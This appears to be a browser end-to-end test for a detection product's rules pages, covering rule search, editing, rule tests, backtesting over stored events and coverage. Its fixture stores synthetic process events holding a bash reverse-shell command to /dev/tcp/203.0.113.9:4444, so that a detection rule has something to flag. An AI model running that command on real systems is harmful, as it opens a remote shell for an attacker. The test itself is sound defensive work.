/** The pages about rules in a real browser: finding one, writing on it, what its tests and a backtest say, coverage. */
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { Backtests } from '../../collector/backtest/backtests.ts';
import { packPath } from '../../collector/rules/load.ts';
import { ruleTexts } from '../../collector/rules/texts.ts';
import { startApi } from '../collector/api/start.ts';
import { hostOf, StoredEvents, secondUs } from '../collector/backtest/stored-events.ts';
import { newAlert } from '../collector/store/control/new-alert.ts';
import { absent, buildWeb, pictures, signIn, webRoot } from './visit.ts';

t.before(() => buildWeb(t));

/** Three reverse shells on two hosts, an hour ago. */
async function withShells(t: Test): Promise<StoredEvents> {
  const stored = new StoredEvents(t, 2);
  const at = (Date.now() - 3_600_000) * 1000;
  for (const [n, host] of [0, 0, 1].entries()) {
    const event = {
      ...{ type: 'process.start', time: at + n * secondUs, 'process.executable': '/bin/bash' },
      'process.command_line': 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    };
    await stored.append([{ hostId: hostOf(host).id, receivedAt: at + n * secondUs, events: [event] }]);
  }
  return stored;
}

function backtestsOver(t: Test, stored: StoredEvents): Backtests {
  const backtests = new Backtests({
    entry: new URL('../../collector/backtest.process.ts', import.meta.url),
    ...{ folder: stored.folder, keyFile: '', threads: 1, memoryBytes: 2 ** 31 },
    inForce: async () => ({ rulePaths: [], listPaths: [], uses: [] }),
    hosts: async () => stored.hosts,
    audit: async () => undefined,
  });
  t.teardown(() => backtests.close());
  return backtests;
}

const id = 'rule-of-the-pack';
const file = join(packPath, 'reverse-shell.yml');

t.test('a rule from the list to its tests', { skip: absent }, async (t) => {
  const stored = await withShells(t);
  const api = await startApi(t, {
    webRoot: webRoot(),
    backtests: backtestsOver(t, stored),
    rules: () => ({
      rules: [
        { id, title: 'Reverse shell', level: 'critical', tags: [], logsource: {}, file },
        { id: 'other', title: 'Other rule', level: 'low', tags: [], logsource: {}, file },
      ],
      problems: [],
      bundle: null,
    }),
    ruleTexts,
  });
  await api.deps.control.detection.commit(1, [newAlert('a1', { ruleId: id, raisedAt: Date.now() * 1000 })]);
  const { page, faults } = await signIn(t, api);
  await page.getByRole('link', { name: 'Rules' }).click();
  await page.getByRole('heading', { name: 'Rules' }).waitFor();
  await page.getByRole('link', { name: 'Other rule' }).waitFor();
  await page.screenshot({ path: join(pictures, 'rules.png') });
  await page.getByLabel('Search rules').fill('reverse');
  await page.getByRole('link', { name: 'Other rule' }).waitFor({ state: 'detached' });
  await page.getByRole('link', { name: 'Reverse shell' }).click();
  await page.getByText('Nothing is wrong with it.').waitFor();
  await page.getByText(/^\d+ of \d+ passed$/).waitFor();

  const rule = page.getByLabel('Rule', { exact: true });
  const text = await rule.inputValue();
  t.match(text, 'detection:');
  await rule.fill(text.replace('condition:', 'condition: nothing or'));
  await page.locator('.problems .error').first().waitFor();
  await page.screenshot({ path: join(pictures, 'rule-refused.png'), fullPage: true });
  await rule.fill(text);
  await page.getByText('Nothing is wrong with it.').waitFor();
  const tests = page.getByLabel('Tests', { exact: true });
  await tests.fill((await tests.inputValue()).replace('expect: hit', 'expect: miss'));
  await page.locator('.check-bad').waitFor();
  await page.getByRole('button', { name: 'Run over stored events' }).click();
  await page.locator('.backtest strong', { hasText: '3 alerts' }).waitFor({ timeout: 60_000 });
  await page.locator('.day-bars meter').first().waitFor();
  await page.locator('.backtest').getByText('3 new, 0 gone').waitFor();
  await page.locator('.backtest').getByText('2 on host-0').waitFor();
  await page.screenshot({ path: join(pictures, 'rule.png'), fullPage: true });
  t.same(faults, []);
});

t.test('what rules cover', { skip: absent }, async (t) => {
  const api = await startApi(t, { webRoot: webRoot() });
  const { page, faults } = await signIn(t, api);
  await page.goto(`${api.baseUrl}/?rules=coverage`);
  await page.getByRole('heading', { name: 'execution', exact: true }).waitFor({ timeout: 60_000 });
  await page.locator('.matrix .fed').first().waitFor();
  await page.screenshot({ path: join(pictures, 'coverage.png'), fullPage: true });
  t.same(faults, []);
});
